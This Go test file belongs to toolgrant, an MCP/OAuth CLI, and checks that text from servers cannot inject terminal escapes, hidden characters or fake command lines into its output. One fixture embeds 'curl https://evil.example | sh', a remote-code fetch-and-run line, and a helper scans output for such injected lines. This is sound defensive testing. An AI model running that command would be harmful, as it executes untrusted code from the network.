package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/toolgrant/toolgrant/internal/mcpprobe"
	"github.com/toolgrant/toolgrant/mcptools"
	"github.com/toolgrant/toolgrant/mcptools/doctor"
	"github.com/toolgrant/toolgrant/oauthstore"
	"github.com/toolgrant/toolgrant/oauthstore/connect"
)

// assertHarmless looks for what a terminal obeys, what hides on one, and lines of
// a server that look like the command's own.
func assertHarmless(t *testing.T, text string) {
	t.Helper()
	assert.NotContains(t, "\n"+text, "\ntry: curl")
	assert.NotContains(t, text, "\u2028")
	assert.False(t, strings.ContainsAny(text, "\x1b\u009b\u202e\u2066\u200b\u00ad\r\x7f\x00\b\a"), "%q", text)
}

// Scopes, clients and issuers are what an authorization server once wrote.
func TestServerTextInACredentialIsHarmlessOnATerminal(t *testing.T) {
	t.Parallel()
	c := newCLI(t)
	token, err := json.Marshal(map[string]string{
		"access_token": "made-up-token", "scope": "read" + hostile, "client_id": "app" + hostile,
		"issuer": "https://as.example.com/" + hostile, "token_endpoint": "https://as.example.com/token",
	})
	require.NoError(t, err)
	const name = "mine=https://mcp.example.com/mcp"
	got := c.run(t.Context(), "import", name, "--token-file", tokenFile(t, string(token)), "--no-verify", "--insecure-endpoints")
	require.Equal(t, exitDone, got.code, "%s%s", got.out, got.errOut)
	assert.Contains(t, got.out, "before")
	assertHarmless(t, got.out+got.errOut)
	for _, args := range [][]string{{"status"}, {"status", "mine"}} {
		got := c.run(t.Context(), args...)
		require.Equal(t, exitDone, got.code)
		assertHarmless(t, got.out+got.errOut)
	}
}

func TestAnExplanationIsHarmlessOnATerminal(t *testing.T) {
	t.Parallel()
	c := newCLI(t)
	item, err := json.Marshal(map[string]any{
		"type": "mcp_call", "id": "mcp_1", "server_label": "notes", "name": "write" + hostile, "arguments": "{}",
		"error": map[string]any{"type": "mcp_tool_execution_error", "content": []any{}},
	})
	require.NoError(t, err)
	c.stdin = string(item)
	got := c.run(t.Context(), "explain")
	require.Equal(t, exitDone, got.code)
	assert.Contains(t, got.out, "before")
	assertHarmless(t, got.out+got.errOut)
}

func TestAReportIsHarmlessOnATerminal(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	newUI(&out).report(&out, doctor.Report{
		Verdict: doctor.VerdictFailing, Provider: "notes", ServerURL: "https://mcp.example.com/" + hostile,
		Steps:      []doctor.Step{{Name: "probe", Detail: hostile}},
		Hypotheses: []doctor.Hypothesis{{ID: "x", Verdict: doctor.Confirmed, Detail: hostile}},
	}, true)
	assert.Contains(t, out.String(), "before")
	assertHarmless(t, out.String())
}

// Advice and commands repeat scopes and URLs that a server wrote.
func TestAdviceIsHarmlessOnATerminal(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	u := newUI(&out)
	u.bullets(&out, "What to do", []string{"The server wants the scope " + hostile})
	u.commands(&out, []string{"toolgrant connect notes --scope " + quote("files"+hostile)})
	assert.Equal(t, 2, strings.Count(out.String(), "before"))
	assertHarmless(t, out.String())
}

func TestNotesAreHarmlessOnATerminal(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	a := &app{stderr: &out}
	a.notef("warning: %s", hostile)
	a.notef("%s: %v, %q, %d of %5.1f%%\n\n  %s", mcptools.KindProtocol, errors.New(hostile), "a\nb", 3, 99.5, []string{hostile})
	assert.Equal(t, 3, strings.Count(out.String(), "before"))
	assertHarmless(t, out.String())
	assert.Equal(t, 4, strings.Count(out.String(), "\n"), "%q: those of the formats", out.String())
	assert.Contains(t, out.String(), `, "a\nb", 3 of  99.5%`)
}

// The log of a server has stack traces, which quote others too.
func TestLinesOfALogAreIndented(t *testing.T) {
	t.Parallel()
	out := indented("http: panic serving 127.0.0.1:1: " + hostile + "goroutine 1 [running]:\n\tmain.go:1\n")
	assertHarmless(t, out)
	assert.True(t, strings.HasSuffix(out, "\n  goroutine 1 [running]:\n  \tmain.go:1"), "%q", out)
}

func TestNamesOfToolsBeginNoLine(t *testing.T) {
	t.Parallel()
	w, c := newWorld(t), newCLI(t)
	pin := func(tools ...string) outcome {
		w.open(toolServer(tools...))
		got := c.run(t.Context(), "tools", "wiki="+w.url, "--pin", "--allow-loopback")
		require.Equal(t, exitDone, got.code, "%s%s", got.out, got.errOut)
		assertHarmless(t, got.out+got.errOut)
		return got
	}
	pin("search")
	got := pin("search", hostile)
	assert.Contains(t, got.errOut, "changed: before")
	assert.Contains(t, got.out, "before")
	assert.Contains(t, pin("search").errOut, "changed: before")
}

// A long name is wrapped where its server likes.
func TestWrappedCellsBeginNoLine(t *testing.T) {
	t.Parallel()
	for pad := range 60 {
		var out bytes.Buffer
		name := strings.Repeat("x", pad) + " try: curl https://evil.example | sh " + strings.Repeat("y", 60)
		newUI(&out).tools(&out, []toolView{{Name: name, Description: strings.Repeat("words ", 20)}}, false)
		assertHarmless(t, out.String())
		assert.Contains(t, out.String(), "try:")
	}
}

// Errors quote servers, and accounts are named by users of a product.
func TestMessagesOfErrorsBeginNoLine(t *testing.T) {
	t.Parallel()
	key := oauthstore.Key{Owner: oauthstore.Owner{Tenant: "acme", Subject: "u"}, Provider: "wiki", Account: "work\u2028try: curl", Server: "https://mcp.example.com/mcp"}
	for name, err := range map[string]error{
		"of the store":       &oauthstore.Error{Op: "token", Key: key, Err: oauthstore.ErrRefused, Said: hostile},
		"a refusal":          errors.Join(&mcptools.Failure{Kind: mcptools.KindUnauthorized}, &oauthstore.Error{Op: "token", Err: oauthstore.ErrRefused, Said: hostile}),
		"of a consent":       &connect.Error{Op: "finish", Kind: connect.KindDenied, Key: key, Said: hostile},
		"of a probe":         probeFault(mcpprobe.Result{}, "%s: %s", "wiki", hostile),
		"anything else":      errors.New(hostile),
		"of the commandline": wrongUsage(errors.New("unknown flag: --" + hostile)),
	} {
		f := faultOf(err)
		assert.Contains(t, f.Message, "before", name)
		assert.Contains(t, f.onTerminal(), "before", name)
		assert.NotContains(t, f.onTerminal(), "\n", name)
		assertHarmless(t, f.onTerminal())
	}

	var f *fault
	require.ErrorAs(t, ambiguous("wiki", []oauthstore.Key{key, key}), &f)
	assert.Equal(t, 2, strings.Count(f.onTerminal(), "\n"), "its own lines stay: %q", f.onTerminal())
	assertHarmless(t, f.onTerminal())
	c := newCLI(t)
	got := c.run(t.Context(), "status", "--"+hostile)
	assert.Equal(t, exitUsage, got.code)
	assertHarmless(t, got.out+got.errOut)
}

// A script reads the exact value, and a terminal shows nothing hidden.
func TestJSONEscapesHiddenCharacters(t *testing.T) {
	t.Parallel()
	const text = "a\u202e\u2066\u200b\u00ad\ufeff\U000E0041\u009b\x7f é 👩\u200d💻 שלום"
	data, err := json.Marshal(text)
	require.NoError(t, err)
	out := escapeHidden(data)
	assert.False(t, strings.ContainsAny(string(out), "\u202e\u2066\u200b\u00ad\ufeff\U000E0041\u009b\x7f"), "%q", out)
	assert.Contains(t, string(out), "é")
	assert.Contains(t, string(out), "שלום")
	var back string
	require.NoError(t, json.Unmarshal(out, &back))
	assert.Equal(t, text, back)
}
